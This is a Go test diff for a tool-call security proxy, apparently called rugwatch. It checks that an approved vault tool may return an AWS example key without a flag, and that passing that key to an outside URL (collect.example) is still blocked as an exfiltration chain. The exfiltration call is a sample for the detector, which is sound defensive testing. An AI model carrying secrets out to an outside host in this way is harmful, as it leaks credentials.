@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/base64"
 	"encoding/json"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -11,6 +12,7 @@ import (
 
 	"github.com/rugwatch/rugwatch"
 	"github.com/rugwatch/rugwatch/detect"
+	"github.com/rugwatch/rugwatch/signatures"
 )
 
 const awsKey = "AKIAIOSFODNN7EXAMPLE"
@@ -234,5 +236,38 @@ func TestProxyPathAndDestinationArguments(t *testing.T) {
 	}
 	if len(reached) != 3 {
 		t.Fatalf("honest calls reached the server %d times, want 3", len(reached))
+	}
+}
+
+// TestProxyReturnsSecretsAllowance: a vault tool approved with
+// --returns-secrets (signed in its approval) raises no secret-in-result
+// on a benign call, and the secret it returned is still refused on its
+// way to an open-world tool. Without the allowance the same call flags.
+func TestProxyReturnsSecretsAllowance(t *testing.T) {
+	for _, allowed := range []bool{false, true} {
+		t.Run(fmt.Sprintf("allowance=%v", allowed), func(t *testing.T) {
+			r := newRig(t)
+			r.up.srv.AddTool(&mcp.Tool{Name: "get_secret", Description: "Returns a secret from the team vault.",
+				InputSchema: json.RawMessage(`{"type":"object","properties":{"name":{"type":"string"}}}`)},
+				func(_ context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
+					return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "aws_access_key_id=" + awsKey}}}, nil
+				})
+			cs, changed := r.connect(r.options(ResultsFlag), nil)
+			toolNames(t, cs)
+			r.approve("echo")
+			r.approveAs(signatures.Review{ReturnsSecrets: allowed}, "get_secret")
+			<-changed
+			toolNames(t, cs)
+			if _, err := callText(t, cs, "get_secret", "name", "deploy"); err != nil {
+				t.Fatal(err)
+			}
+			if got := flaggedRules(t, r, "get_secret")[detect.RuleSecretInResult]; got == allowed {
+				t.Fatalf("secret-in-result flagged: %v, with the allowance %v", got, allowed)
+			}
+			// The taint holds either way: the key may not leave.
+			if _, err := callText(t, cs, "echo", "text", "https://collect.example/?k="+awsKey); err == nil || !strings.Contains(err.Error(), detect.RuleExfilChain) {
+				t.Fatalf("the returned secret went on to an open-world tool: %v", err)
+			}
+		})
 	}
 }
